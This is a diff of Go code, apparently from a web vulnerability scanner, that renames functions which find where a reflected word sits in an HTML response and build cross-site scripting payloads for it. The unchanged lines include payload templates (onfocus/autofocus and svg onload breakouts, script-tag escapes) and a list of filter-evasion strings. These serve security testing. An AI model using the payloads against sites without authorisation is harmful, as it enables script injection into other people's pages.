@@ -40,8 +40,8 @@ type context struct {
 	xml     bool // the page is XML
 }
 
-// describe tells the place to people.
-func (c context) describe() string {
+// describeContext tells the place to people.
+func (c context) describeContext() string {
 	switch c.kind {
 	case inRaw:
 		return "in the text of <" + c.element + ">"
@@ -77,8 +77,8 @@ var foreign = map[string]string{"script": "src", "base": "href", "form": "action
 var rawText = map[string]bool{"textarea": true, "title": true, "style": true, "noscript": true, "xmp": true,
 	"iframe": true, "noembed": true, "noframes": true, "plaintext": true}
 
-// contexts returns the places of the word in the page, each kind once.
-func contexts(resp *message.Response, word string) []context {
+// findContexts returns the places of the word in the page, each kind once.
+func findContexts(resp *message.Response, word string) []context {
 	var out []context
 	add := func(c context) {
 		c.xml = isXML(resp)
@@ -102,7 +102,7 @@ func contexts(resp *message.Response, word string) []context {
 			}
 			switch {
 			case open == "script":
-				for _, state := range states(raw, word) {
+				for _, state := range scriptStates(raw, word) {
 					add(context{kind: inScript, element: "script", state: state})
 				}
 			case rawText[open]:
@@ -125,7 +125,7 @@ func contexts(resp *message.Response, word string) []context {
 				open = element
 			}
 			if strings.Contains(strings.ToLower(raw), word) {
-				for _, c := range inside(raw, element, word) {
+				for _, c := range contextsInTag(raw, element, word) {
 					add(c)
 				}
 			}
@@ -135,8 +135,8 @@ func contexts(resp *message.Response, word string) []context {
 	}
 }
 
-// inside returns the places of the word in a tag.
-func inside(raw, element, word string) []context {
+// contextsInTag returns the places of the word in a tag.
+func contextsInTag(raw, element, word string) []context {
 	var out []context
 	for from := 0; ; {
 		i := strings.Index(strings.ToLower(raw[from:]), word)
@@ -155,13 +155,13 @@ func inside(raw, element, word string) []context {
 			out = append(out, context{kind: inTag, element: element})
 		case strings.HasPrefix(name, "on"):
 			text := html.UnescapeString(raw[start:])
-			for _, state := range states(text[:min(len(text), len(value)+len(word)+1)], word) {
+			for _, state := range scriptStates(text[:min(len(text), len(value)+len(word)+1)], word) {
 				out = append(out, context{kind: inHandler, element: element, name: name, quote: quote, state: state})
 			}
 		case addressed[name] && value == "":
 			out = append(out, context{kind: inAddress, element: element, name: name, quote: quote})
 		case addressed[name] && strings.HasPrefix(strings.ToLower(value), "javascript:"):
-			for _, state := range states(strings.TrimSpace(html.UnescapeString(raw[start:i+len(word)])), word) {
+			for _, state := range scriptStates(strings.TrimSpace(html.UnescapeString(raw[start:i+len(word)])), word) {
 				out = append(out, context{kind: inHandler, element: element, name: name, quote: quote, state: state,
 					address: true})
 			}
@@ -178,22 +178,22 @@ func inside(raw, element, word string) []context {
 // around it and where it begins, by the states of the HTML standard, section 13.2.5.
 func attributeAt(raw string, offset int) (name string, quote byte, start int, ok bool) {
 	i := 1
-	for i < len(raw) && !space(raw[i]) && raw[i] != '/' && raw[i] != '>' {
+	for i < len(raw) && !isSpace(raw[i]) && raw[i] != '/' && raw[i] != '>' {
 		i++
 	}
 	for i < len(raw) {
-		for i < len(raw) && (space(raw[i]) || raw[i] == '/') {
+		for i < len(raw) && (isSpace(raw[i]) || raw[i] == '/') {
 			i++
 		}
 		begin := i
-		for i < len(raw) && !space(raw[i]) && raw[i] != '=' && raw[i] != '>' && raw[i] != '/' {
+		for i < len(raw) && !isSpace(raw[i]) && raw[i] != '=' && raw[i] != '>' && raw[i] != '/' {
 			i++
 		}
 		name = strings.ToLower(raw[begin:i])
 		if offset < i {
 			return "", 0, 0, false
 		}
-		for i < len(raw) && space(raw[i]) {
+		for i < len(raw) && isSpace(raw[i]) {
 			i++
 		}
 		if i >= len(raw) || raw[i] != '=' {
@@ -203,7 +203,7 @@ func attributeAt(raw string, offset int) (name string, quote byte, start int, ok
 			continue
 		}
 		i++
-		for i < len(raw) && space(raw[i]) {
+		for i < len(raw) && isSpace(raw[i]) {
 			i++
 		}
 		if i >= len(raw) {
@@ -218,7 +218,7 @@ func attributeAt(raw string, offset int) (name string, quote byte, start int, ok
 			}
 			i = start + end + 1
 		} else {
-			for i < len(raw) && !space(raw[i]) && raw[i] != '>' {
+			for i < len(raw) && !isSpace(raw[i]) && raw[i] != '>' {
 				i++
 			}
 		}
@@ -229,10 +229,10 @@ func attributeAt(raw string, offset int) (name string, quote byte, start int, ok
 	return "", 0, 0, false
 }
 
-func space(c byte) bool { return c == ' ' || c == '\t' || c == '\n' || c == '\r' || c == '\f' }
+func isSpace(c byte) bool { return c == ' ' || c == '\t' || c == '\n' || c == '\r' || c == '\f' }
 
-// states returns the states of a script in which the word stands.
-func states(script, word string) []byte {
+// scriptStates returns the states of a script in which the word stands.
+func scriptStates(script, word string) []byte {
 	var out []byte
 	state, last := byte(0), byte(0)
 	for i := 0; i < len(script); i++ {
@@ -264,7 +264,7 @@ func states(script, word string) []byte {
 			case c == '/' && strings.IndexByte("(,=:[!&|?{};+\x00", last) >= 0:
 				state = 'r'
 			}
-			if !space(c) {
+			if !isSpace(c) {
 				last = c
 			}
 		case '/':
@@ -290,9 +290,9 @@ func states(script, word string) []byte {
 	return out
 }
 
-// payloads returns values that leave the place, the likeliest first. The word is called
+// payloadsFor returns values that leave the place, the likeliest first. The word is called
 // as a function.
-func (c context) payloads(word string) []string {
+func (c context) payloadsFor(word string) []string {
 	call := word + "(1)"
 	if c.xml {
 		return c.xmlPayloads(call)
@@ -322,7 +322,7 @@ func (c context) payloads(word string) []string {
 		return []string{"x;" + word + ":1;x:x", word + ":1;x", "x{}" + word + "{" + word + ":1}x", "x]{" + word +
 			":1}x[x", "\"]{" + word + ":1}x[x=\"", "x}" + word + "{" + word + ":1}x{x"}
 	case inAddress:
-		leave := context{kind: inAttribute, element: c.element, name: c.name, quote: c.quote}.payloads(word)
+		leave := context{kind: inAttribute, element: c.element, name: c.name, quote: c.quote}.payloadsFor(word)
 		other := "//" + word + ".example/"
 		switch {
 		case c.element == "script" || c.element == "base":
@@ -336,7 +336,7 @@ func (c context) payloads(word string) []string {
 	case inAttribute:
 		if c.element == "iframe" && c.name == "srcdoc" {
 			c.name = ""
-			return append(tags[:3:3], c.payloads(word)...) // the value is a page
+			return append(tags[:3:3], c.payloadsFor(word)...) // the value is a page
 		}
 		if q == "" {
 			return []string{"x onfocus=" + call + " autofocus tabindex=1 ", "x><svg onload=" + call + ">",
@@ -350,17 +350,17 @@ func (c context) payloads(word string) []string {
 	case inTag:
 		return []string{"x onfocus=" + call + " autofocus tabindex=1 ", "><svg onload=" + call + ">"}
 	case inScript:
-		return append(c.code(call), "</script><svg onload="+call+">", "</script><script>"+call+"</script>")
+		return append(c.codePayloads(call), "</script><svg onload="+call+">", "</script><script>"+call+"</script>")
 	case inHandler:
-		list := c.code(call)
+		list := c.codePayloads(call)
 		if c.address { // what is encoded twice is decoded when it runs
 			escape := strings.NewReplacer("'", "%27", `"`, "%22", "`", "%60")
-			for _, p := range c.code(call)[:min(2, len(list))] {
+			for _, p := range c.codePayloads(call)[:min(2, len(list))] {
 				list = append(list, escape.Replace(p))
 			}
 		}
 		return append(list, context{kind: inAttribute, element: c.element, name: c.name,
-			quote: c.quote}.payloads(word)...)
+			quote: c.quote}.payloadsFor(word)...)
 	}
 	return nil
 }
@@ -370,8 +370,8 @@ func (c context) payloads(word string) []string {
 var evasions = []string{"JaVaScRiPt:", "java\tscript:", "javasc&#114;ipt:", "scrscriptipt", "<ScRiPt>", "<scr<script>",
 	"oonn", "ONFOCUS", "\fonfocus", "/onfocus", "%27", "%22", "%60"}
 
-// evades reports whether a value is such a way.
-func evades(payload string) bool {
+// isEvasion reports whether a value is such a way.
+func isEvasion(payload string) bool {
 	return slices.ContainsFunc(evasions, func(e string) bool { return strings.Contains(payload, e) })
 }
 
@@ -418,8 +418,8 @@ func anyTags(word string) []string {
 	}
 }
 
-// code returns values that leave the state of a script.
-func (c context) code(call string) []string {
+// codePayloads returns values that leave the state of a script.
+func (c context) codePayloads(call string) []string {
 	q := string(c.state)
 	switch c.state {
 	case '\'', '"':
@@ -437,10 +437,10 @@ func (c context) code(call string) []string {
 	return []string{call, "1;" + call, "1-" + call, ";" + call + ";//", "1);" + call + ";//", "1});" + call + ";//"}
 }
 
-// stops reports whether the answer shows that nothing can leave the place: wherever
+// isEscaped reports whether the answer shows that nothing can leave the place: wherever
 // the word comes back, the character that had to come through is encoded, or taken out
 // of a text.
-func (c context) stops(resp *message.Response, word, payload string) bool {
+func (c context) isEscaped(resp *message.Response, word, payload string) bool {
 	special := "<"
 	switch c.kind {
 	case inAttribute, inAddress, inTag:
